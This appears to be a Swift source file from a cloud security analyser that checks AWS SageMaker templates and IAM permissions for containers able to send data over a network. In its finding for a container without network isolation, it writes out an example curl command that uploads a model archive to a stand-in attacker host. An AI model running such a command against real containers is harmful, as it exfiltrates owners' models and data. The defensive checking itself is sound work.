import CordonModel

/// A container of a model or job with a network.
struct IsolationRoute: Route {
  let name = "job-isolation"
  let path = EgressPath.modelExport
  let title = "a model's or job's container sends what it holds over a network"
  let documentation = RouteDocumentation(
    """
    Containers of jobs and models run what their author put in them. Without a VPC they stand in SageMaker's own network, \
    which has the internet; with network isolation they have none.
    """,
    closedBy: ["EnableNetworkIsolation", "a VpcConfig in a network without a way out"],
    notClosedBy: [
      "limiting who may call SageMaker by a service control policy: whoever may, starts it with a network",
      "naming a subnet in a condition without asking for its value", "encryption between containers",
    ])

  /// Where each type says whether its container has a network, and which.
  private static let places: [(type: String, isolation: [String], network: [String])] = [
    ("AWS::SageMaker::Model", ["EnableNetworkIsolation"], ["VpcConfig"]),
    (
      "AWS::SageMaker::ProcessingJob", ["NetworkConfig", "EnableNetworkIsolation"],
      ["NetworkConfig", "VpcConfig"]
    ),
    (
      "AWS::SageMaker::MonitoringSchedule",
      ["MonitoringScheduleConfig", "MonitoringJobDefinition", "NetworkConfig", "EnableNetworkIsolation"],
      ["MonitoringScheduleConfig", "MonitoringJobDefinition", "NetworkConfig", "VpcConfig"]
    ),
    (
      "AWS::SageMaker::DataQualityJobDefinition", ["NetworkConfig", "EnableNetworkIsolation"],
      ["NetworkConfig", "VpcConfig"]
    ),
    (
      "AWS::SageMaker::ModelQualityJobDefinition", ["NetworkConfig", "EnableNetworkIsolation"],
      ["NetworkConfig", "VpcConfig"]
    ),
    (
      "AWS::SageMaker::ModelBiasJobDefinition", ["NetworkConfig", "EnableNetworkIsolation"],
      ["NetworkConfig", "VpcConfig"]
    ),
    (
      "AWS::SageMaker::ModelExplainabilityJobDefinition", ["NetworkConfig", "EnableNetworkIsolation"],
      ["NetworkConfig", "VpcConfig"]
    ),
    ("AWS::SageMaker::Cluster", ["EnableNetworkIsolation"], ["VpcConfig"]),
  ]

  func judge(_ scene: Scene) -> Judgement {
    let estate = scene.estate
    var judgement = Judgement()
    for place in Self.places {
      for resource in estate.all(place.type) {
        if let name = resource["MonitoringScheduleConfig", "MonitoringJobDefinitionName"] {
          if let door = definition(name, of: resource, estate) { judgement.add(door) }
          continue
        }
        judge(resource, place.isolation, place.network, scene, &judgement)
      }
    }
    judgement.add(Self.withoutNetworkOfOurs, scene)
    let elsewhere = Self.inOtherNetwork(scene.walledSubnets)
    judgement.add(elsewhere, scene)
    judgement.add(Self.unkeyed, scene)
    if let power = otherNetwork(scene) { judgement.add(power, scene) }
    let inTheOpen = Self.inTheOpen(estate)
    for role in scene.roles {
      for (what, power) in [
        ("without isolation", Self.withoutIsolation), ("without a network of ours", Self.withoutNetwork),
        ("in a network that is not proved closed", elsewhere.isolatedOrNot),
      ] where !power.isRefused(to: role, scene) {
        judgement.lose("\(role.resource.id) may start jobs \(what)", role.resource)
      }
      for (what, power) in inTheOpen where !power.isRefused(to: role, scene) {
        judgement.lose("\(role.resource.id) may start jobs \(what)", role.resource)
      }
      if !Self.withoutIsolation.isRefused(by: scene.serviceControls, to: role, scene),
        let guardrail = scene.guardrail
      {
        judgement.lose(
          "no service control policy keeps \(role.resource.id) from jobs without isolation", guardrail)
      }
    }
    return judgement
  }

  /// A door where the definition that a schedule names is not among those that are judged; nil where it is.
  private func definition(_ name: CloudValue, of schedule: CloudResource, _ estate: CloudEstate) -> Door? {
    let text = estate.text(name)
    guard let known = text.value else { return .unknown("\(schedule.id)", text.unknowns, schedule) }
    let definitions = Self.places.filter { $0.type.hasSuffix("JobDefinition") }.flatMap {
      estate.all($0.type)
    }
    let isJudged = definitions.contains {
      known == estate.text($0, "JobDefinitionName").value || known == estate.ref($0)
    }
    return isJudged
      ? nil
      : .unknown(
        "\(schedule.id)", "job definition \(known) is not in the files: give the template that declares it",
        schedule)
  }

  private func judge(
    _ resource: CloudResource, _ isolation: [String], _ network: [String], _ scene: Scene,
    _ judgement: inout Judgement
  ) {
    let estate = scene.estate
    let name = "\(resource.id)"
    let isolated = estate.bool(resource.properties[path: isolation])
    for text in MonitorSecrecy(resource, estate).lost { judgement.lose(text, resource) }
    if isolated.value == true {
      judgement.add(.closed(name, HeldControl(resource, layer: "network isolation", property: isolation)))
      return
    }
    if !isolated.unknowns.isEmpty {
      judgement.add(.unknown(name, isolated.unknowns, resource))
      return
    }
    guard resource.properties[path: network] != nil else {
      judgement.add(
        .open(
          name,
          RouteWitness(
            "curl --data-binary @/opt/ml/model/model.tar.gz https://evil.test/",
            by: .author(of: resource, door: "SageMaker's own network"),
            story:
              "The container of \(name) stands in SageMaker's network and sends its model and its input out.",
            fix: "set EnableNetworkIsolation to true", at: resource, isolation[0])))
      return
    }
    judgement.lose("the container of \(name) has a network: only the network's own walls hold", resource)
    judgement.add(scene.walls(of: resource, network))
  }

  /// Calls that name a VPC: without one, the job has the internet.
  private static let withoutNetworkOfOurs = RolePower(
    actions: keyed,
    consequence:
      "a job without a VPC and without isolation stands in SageMaker's network, which has the internet.",
    demands: [("sagemaker:NetworkIsolation", "Bool", ["true"], false, false)],
    absent: ["sagemaker:VpcSubnets", "sagemaker:VpcSecurityGroupIds"])

  /// Calls that name a VPC of ours, but not one that was proved to have no way out: `subnets` are those that were.
  private static func inOtherNetwork(_ subnets: [String]) -> RolePower {
    var power = RolePower(
      actions: keyed,
      consequence:
        "a job without isolation in a subnet of the caller's choice has whatever way out that has.",
      demands: [("sagemaker:NetworkIsolation", "Bool", ["true"], false, false)])
    power.demands.append(
      subnets.isEmpty
        ? ("sagemaker:VpcSubnets", "Null", ["false"], true, true)
        : ("sagemaker:VpcSubnets", "ForAllValues:StringEquals", subnets, false, true))
    return power
  }

  private static let keyed = [
    "sagemaker:CreateTrainingJob", "sagemaker:CreateProcessingJob",
    "sagemaker:CreateHyperParameterTuningJob",
    "sagemaker:CreateModel", "sagemaker:CreateMonitoringSchedule", "sagemaker:UpdateMonitoringSchedule",
    "sagemaker:CreateDataQualityJobDefinition", "sagemaker:CreateModelQualityJobDefinition",
    "sagemaker:CreateModelBiasJobDefinition", "sagemaker:CreateModelExplainabilityJobDefinition",
    "sagemaker:CreateAutoMLJob", "sagemaker:CreateAutoMLJobV2", "sagemaker:CreateCluster",
    "sagemaker:UpdateCluster",
    // Containers of inference components take their network from it.
    "sagemaker:CreateEndpointConfig",
  ]

  private static let started = ["sagemaker:CreateTrainingJob", "sagemaker:CreateProcessingJob"]

  /// One of the two is enough to keep a job in; whoever asks for both sees when one is not asked for any more.
  private static let withoutIsolation = RolePower(
    actions: started, consequence: "",
    demands: [("sagemaker:NetworkIsolation", "Bool", ["true"], false, false)])
  private static let withoutNetwork = RolePower(
    actions: started, consequence: "", absent: ["sagemaker:VpcSubnets", "sagemaker:VpcSecurityGroupIds"])

  /// Jobs that others could read on the way or at rest, if they came that far.
  private static func inTheOpen(_ estate: CloudEstate) -> [(String, RolePower)] {
    let keys = estate.all("AWS::KMS::Key", "AWS::KMS::ReplicaKey").map { estate.arn($0) }
    func power(_ key: String, _ operation: String, _ values: [String]) -> RolePower {
      RolePower(actions: started, consequence: "", demands: [(key, operation, values, false, false)])
    }
    return [
      (
        "whose containers talk to each other in the clear",
        power("sagemaker:InterContainerTrafficEncryption", "Bool", ["true"])
      ),
      ("whose volumes no key of ours encrypts", power("sagemaker:VolumeKmsKey", "StringEquals", keys)),
      ("whose results no key of ours encrypts", power("sagemaker:OutputKmsKey", "StringEquals", keys)),
    ]
  }

  /// Calls that may name a network with the internet: one of the files, or the account's default network.
  private func otherNetwork(_ scene: Scene) -> RolePower? {
    let estate = scene.estate
    let gateways = Set(
      estate.all("AWS::EC2::VPCGatewayAttachment").filter { $0["InternetGatewayId"] != nil }
        .compactMap { estate.text($0, "VpcId").value })
    var subnets = scene.workloads.networks.filter { $0.onlyBrowser && gateways.contains($0.id) }
      .flatMap(\.subnets).map { estate.ref($0) }
    let blocked = PublicAccessBlock(estate)
    if estate.stated["default-network"] != "deleted", !blocked.isBidirectional {
      subnets.append("subnet-0123456789abcdef0")
    }
    guard !subnets.isEmpty else { return nil }
    return RolePower(
      actions: Self.withoutNetworkOfOurs.actions + [
        "sagemaker:CreateNotebookInstance", "sagemaker:CreateDomain", "sagemaker:UpdateDomain",
      ],
      consequence: """
        it may stand in a subnet with the internet, of another network of the files or of the account's default network (if \
        that is deleted, --assume default-network=deleted).
        """,
      demands: [
        ("sagemaker:NetworkIsolation", "Bool", ["true"], false, false),
        ("sagemaker:VpcSubnets", "ForAnyValue:StringEquals", subnets, true, true),
        ("sagemaker:VpcSubnets", "ForAllValues:StringEquals", subnets, true, true),
      ])
  }

  /// Calls that start containers or apps and have no key for their network.
  private static let unkeyed = RolePower(
    actions: [
      "sagemaker:CreateLabelingJob", "sagemaker:CreateInferenceRecommendationsJob",
      "sagemaker:CreateOptimizationJob", "sagemaker:CreatePartnerApp", "sagemaker:CreateFlowDefinition",
      "sagemaker:CreateEdgeDeploymentPlan", "sagemaker:CreateMlflowTrackingServer",
      "sagemaker:CreatePipeline",
      "sagemaker:UpdatePipeline",
    ],
    consequence: "what it starts is not bound to a network of ours by any condition key.")
}
